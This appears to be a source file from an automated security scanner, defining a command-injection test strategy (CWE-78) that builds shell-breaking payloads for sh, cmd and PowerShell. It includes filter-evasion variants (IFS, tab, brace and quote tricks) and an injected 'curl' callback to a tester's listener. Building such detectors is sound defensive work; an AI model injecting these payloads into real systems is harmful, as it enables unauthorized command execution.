import { looksLike, splitWords } from '../affinity.ts';
import { computed, plainSeed } from '../proofs.ts';
import { BREAKS, emptyFile, plainWord, sayProduct, shellsOf, type Break, type Shell } from '../shells.ts';
import type { Expectation, Made, Making, Payload, Position, Strategy, Subject } from '../strategy.ts';
import { WorldPaths } from '../world-paths.ts';

export const commandInjection: Strategy = {
  meta: {
    id: 'command-injection',
    title: 'Command injection',
    about:
      'Ends the word it stands in and goes on with a command that makes an empty file or works out a product: sh, PowerShell and cmd, bare and in either quotes.',
    cwe: 'CWE-78',
    optIn: false,
    severity: 'critical',
    finding: 'What is given runs as a command',
    fix: 'Start the program directly with a list of arguments, without a shell. Where a shell is needed, hand the value over in the environment and name it there in quotes.',
  },
  of: 'value',
  fits: (subject, position) => (position === undefined ? 0 : likeness(subject, position)),
  payloads(subject, position) {
    if (position === undefined) return [];
    const given = plainSeed(position);
    return isCommand(subject, position)
      ? past(given)
      : [...blind(given), ...small(given), ...said(given), ...calls(given)];
  },
};

/** Values that real servers write into command lines are often paths, names and addresses. */
function likeness(subject: Subject, position: Position): number {
  const command = looksLike(position, 'command', subject);
  const others = Math.max(looksLike(position, 'path', subject), looksLike(position, 'url', subject));
  return Math.max(command, others * 0.7);
}

const SHELL = /\b(?:shell|bash|zsh|terminal|console|powershell|pwsh)\b/;

/** A parameter that is a command itself. Whoever runs that as it is does what it says it does. */
function isCommand(subject: Subject, position: Position): boolean {
  if (looksLike(position, 'command') >= 0.8) return true;
  return SHELL.test(splitWords(subject.name).join(' ')) && looksLike(position, 'command', subject) >= 0.5;
}

const SHELLS: readonly Shell[] = ['sh', 'cmd', 'powershell'];
const named = (shell: Shell, { id }: Break): string => `${shell}-${id}`;
/** What is likeliest on the system of the world is tried wherever a text may stand. */
const isLikely = (shell: Shell, { world }: Making): boolean => shellsOf(world).includes(shell);

/** An empty file in the drop folder; where there is none, a product is asked for. */
function blind(given: string): Payload[] {
  return SHELLS.flatMap((shell) =>
    BREAKS[shell].map((way): Payload => {
      const shows = product(shell, way, given);
      return {
        id: named(shell, way),
        isCore: way.isCore,
        make(making) {
          if (!isLikely(shell, making)) return undefined;
          const path = dropped(making);
          if (path === undefined) return shows.make(making);
          return made(way.text(given, emptyFile(shell, path)), path);
        },
      };
    }),
  );
}

/** With what is left where blanks, `>` or `;` are taken out. */
function small(given: string): Payload[] {
  const touching: [id: string, isCore: boolean, text: (path: string) => string][] = [
    ['redirect', true, (path) => `${given} >${path}`],
    ['single-redirect', false, (path) => `${given}' >${path} '`],
    ['double-redirect', false, (path) => `${given}" >${path} "`],
    ['touch', false, (path) => `${given};touch ${path};`],
    ['touch-substitution', false, (path) => `${given}$(touch ${path})`],
    ['touch-no-blanks', false, (path) => `${given};touch\${IFS}${path};`],
    ['touch-no-blanks-substitution', false, (path) => `$(touch\${IFS}${path})`],
    ['touch-no-blanks-single', false, (path) => `${given}';touch\${IFS}${path};'`],
    ['touch-tab', false, (path) => `${given};touch\t${path};`],
    ['touch-braces', false, (path) => `${given};{touch,${path}};`],
    ['touch-quoted', false, (path) => `${given};t''ou''ch ${path};`],
    ['touch-backslash', false, (path) => `${given};to\\uch ${path};`],
    ['process-substitution', false, (path) => `<(touch ${path})`],
  ];
  return touching.map(([id, isCore, text]) => ({
    id: `sh-${id}`,
    isCore,
    make(making) {
      const path = dropped(making);
      return path === undefined || !isLikely('sh', making) ? undefined : made(text(plainWord(path)), path);
    },
  }));
}

/** Where no file can be made, its output may still be shown. */
function said(given: string): Payload[] {
  const telling = new Set([
    'semicolon',
    'substitution',
    'single-semicolon',
    'double-semicolon',
    'newline',
    'and',
  ]);
  return SHELLS.flatMap((shell) =>
    BREAKS[shell]
      .filter(({ id }) => telling.has(id))
      .map((way): Payload => {
        const shows = product(shell, way, given);
        return {
          id: `says-${named(shell, way)}`,
          isCore: shell === 'sh' && way.id === 'substitution',
          // Without a folder it is what is tried already.
          make: (making) =>
            dropped(making) === undefined || !isLikely(shell, making) ? undefined : shows.make(making),
        };
      }),
  );
}

/** Where nothing is shown and no folder is at hand, it may still call us. */
function calls(given: string): Payload[] {
  return (['sh', 'cmd'] as const).flatMap((shell) =>
    BREAKS[shell]
      .filter(({ isCore }) => isCore)
      .map((way): Payload => ({
        id: `calls-${named(shell, way)}`,
        isCore: way.id === 'semicolon' || way.id === 'substitution',
        make({ world, listener, token }) {
          if (world !== undefined || listener === undefined) return undefined;
          const address = `http://${listener.host}:${listener.port}`;
          const text = way.text(given, `curl -s ${address}/${token}`);
          // Whoever fetches what he is given asks for all of it, or for any address in a text.
          const unless = JSON.stringify(`${address}/plain/${token}`);
          return { json: JSON.stringify(text), expects: [{ kind: 'listener', as: `/${token}`, unless }] };
        },
      })),
  );
}

function product(shell: Shell, way: Break, given: string): Payload {
  return computed(named(shell, way), way.isCore, ({ one, other }) => ({
    text: way.text(given, sayProduct(shell, one, other)),
  }));
}

/** Past a list of commands that are allowed: proved by what it shows, unless any command may be given. */
function past(given: string): Payload[] {
  return SHELLS.flatMap((shell) =>
    BREAKS[shell]
      .filter(({ id }) => id !== 'alone')
      .map((way): Payload => ({
        id: named(shell, way),
        isCore: way.isCore,
        make(making) {
          if (!isLikely(shell, making)) return undefined;
          let plain = '';
          const { make } = computed(way.id, true, ({ one, other }) => {
            plain = sayProduct(shell, one, other);
            return { text: way.text(given, plain) };
          });
          const proved = make(making);
          return (
            proved && {
              ...proved,
              expects: proved.expects.map((expectation): Expectation =>
                expectation.kind === 'computed'
                  ? { ...expectation, unless: JSON.stringify(plain) }
                  : expectation,
              ),
            }
          );
        },
      })),
  );
}

/** Where the file of this case appears. */
function dropped({ world, token }: Making): string | undefined {
  return world === undefined ? undefined : new WorldPaths(world).join(world.drop, token);
}

function made(text: string, path: string): Made {
  return { json: JSON.stringify(text), expects: [{ kind: 'file', path }] };
}
